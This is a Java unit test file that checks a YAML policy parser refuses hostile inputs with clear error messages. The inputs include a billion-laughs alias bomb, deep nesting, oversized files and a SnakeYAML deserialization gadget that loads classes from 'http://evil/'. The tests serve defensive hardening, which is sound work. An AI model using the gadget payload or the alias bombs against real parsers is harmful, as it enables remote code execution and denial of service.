package dev.vigil.policy.parse;

import static dev.vigil.policy.parse.ParseAssertions.problems;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Inputs built to hurt a YAML reader: each must be refused quickly with a clear problem. */
class HostileInputTest {

  private static final Duration QUICKLY = Duration.ofSeconds(10);

  private static List<String> quickly(String text) {
    return assertTimeoutPreemptively(QUICKLY, () -> problems(text));
  }

  @Test
  void billionLaughsIsStoppedAtTheAliasOverTheLimit() {
    StringBuilder yaml = new StringBuilder("subjects:\n  x:\n    attributes:\n");
    yaml.append("      a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int level = 1; level <= 9; level++) {
      String previous = "*a" + (level - 1);
      yaml.append("      a").append(level).append(": &a").append(level).append(" [")
          .append(String.join(", ", java.util.Collections.nCopies(9, previous))).append("]\n");
    }
    // Level 6 holds aliases 46..54; the 51st is the sixth on that line.
    String sixth = "      a6: &a6 [";
    int column = sixth.length() + 5 * "*a5, ".length() + 1;
    assertThat(quickly(yaml.toString())).containsExactly("p.yaml:10:" + column
        + ": more than 50 aliases of lists or mappings; this looks like an alias bomb, write the"
        + " values out instead");
  }

  @Test
  void aliasExpansionWithinTheAliasLimitIsStoppedByTheVisitBudget() {
    // 40 aliases, but the last list stands for 1000 * 10^4 values.
    StringBuilder yaml = new StringBuilder("subjects:\n  x:\n    attributes:\n");
    yaml.append("      b0: &b0 [").append(String.join(",", java.util.Collections.nCopies(1000, "v")))
        .append("]\n");
    for (int level = 1; level <= 4; level++) {
      yaml.append("      b").append(level).append(": &b").append(level).append(" [")
          .append(String.join(", ", java.util.Collections.nCopies(10, "*b" + (level - 1))))
          .append("]\n");
    }
    assertThat(quickly(yaml.toString())).singleElement().asString()
        .contains(": aliases expand this file to more than 2000000 values");
  }

  @Test
  void anAliasInsideItselfIsRejected() {
    assertThat(quickly("""
        subjects:
          x:
            attributes:
              loop: &loop [a, *loop]
        """)).containsExactly(
        "p.yaml:4:13: attribute 'loop[1]' of subject 'x' contains itself through an alias;"
            + " attributes must be finite trees");
  }

  @Test
  void deepNestingIsRefusedWhereItGoesTooDeep() {
    String text = "subjects:\n  x:\n    attributes:\n      deep: " + "[".repeat(100) + "]".repeat(100);
    // Four mappings and 46 lists make 50 levels; the 47th '[' goes one too deep.
    assertThat(quickly(text)).containsExactly("p.yaml:4:" + (13 + 46)
        + ": lists and mappings are nested more than 50 levels deep; flatten the structure");
  }

  @Test
  void tagsThatWouldConstructObjectsAreRefused() {
    assertThat(quickly("""
        roles:
          x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
        """)).containsExactly(
        "p.yaml:2:6: the tag '!!javax.script.ScriptEngineManager' is not allowed on a list; policy"
            + " files use plain values only, remove the tag");
    assertThat(quickly("flags: {a: !custom true}\n")).containsExactly(
        "p.yaml:1:12: the tag '!custom' is not allowed on a scalar; policy files use plain values"
            + " only, remove the tag");
  }

  @Test
  void tooManyNodesAreRefused() {
    String text = "subjects: {x: {attributes: {many: [" + "1,".repeat(1_000_001) + "1]}}}";
    assertThat(quickly(text)).singleElement().asString()
        .endsWith(": the file has more than 1000000 values; split the policy across several files"
            + " in a directory");
  }

  @Test
  void oversizedTextIsRefusedWithoutParsing() {
    String text = "#".repeat(16 * 1024 * 1024 + 1);
    assertThat(quickly(text)).containsExactly("p.yaml:0:0: the file is larger than 16 MiB"
        + " (16777217 bytes); split the policy across several files in a directory");
  }

  @Test
  void oversizedFileIsRefusedWithoutReading(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("big.yaml");
    try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
      sparse.setLength(16L * 1024 * 1024 + 1); // sparse: cheap to create, refused by size alone
    }
    assertThat(assertTimeoutPreemptively(QUICKLY, () -> problems(() -> new PolicyParser().parse(file))))
        .containsExactly(file + ":0:0: the file is larger than 16 MiB (16777217 bytes); split the"
            + " policy across several files in a directory");
  }

  @Test
  void controlCharactersAreReportedWhereTheyAre() {
    assertThat(quickly("roles:\n  ab\u0001c: {}\n")).containsExactly(
        "p.yaml:2:5: the character U+0001 is not allowed in YAML; remove it, or write it as an"
            + " escape (\\u0001) inside a double-quoted string");
  }

  @Test
  void invalidUtf8IsReportedWhereItIs(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("latin1.yaml");
    Files.write(file, new byte[] {'r', 'o', 'l', 'e', 's', ':', '\n', ' ', ' ', 'c', 'a', 'f',
        (byte) 0xE9, ':', ' ', '{', '}', '\n'});
    assertThat(problems(() -> new PolicyParser().parse(file))).containsExactly(
        file + ":2:6: the byte 0xE9 is not valid UTF-8; save the file as UTF-8");
  }

  @Test
  void problemListIsCapped() {
    StringBuilder yaml = new StringBuilder("flags:\n");
    for (int i = 0; i < 3000; i++) {
      yaml.append("  bad-").append(i).append(": true\n");
    }
    List<String> problems = quickly(yaml.toString());
    assertThat(problems).hasSize(1001);
    assertThat(problems.get(1000)).endsWith("too many problems: only the first 1000 are listed");
  }

  @Test
  void longUnknownKeysStayCheapToSuggestFor() {
    // YAML caps implicit keys at 1024 characters; below that, suggestions must not cost much.
    StringBuilder yaml = new StringBuilder("roles:\n  x:\n");
    for (int i = 0; i < 2000; i++) {
      yaml.append("    ").append("k".repeat(1000)).append(i).append(": 1\n");
    }
    List<String> problems = quickly(yaml.toString());
    assertThat(problems).hasSize(1001);
    assertThat(problems.get(0)).isEqualTo("p.yaml:3:5: unknown key '" + "k".repeat(60)
        + "...(1001 chars)' in role 'x'; allowed key: permissions");
  }
}
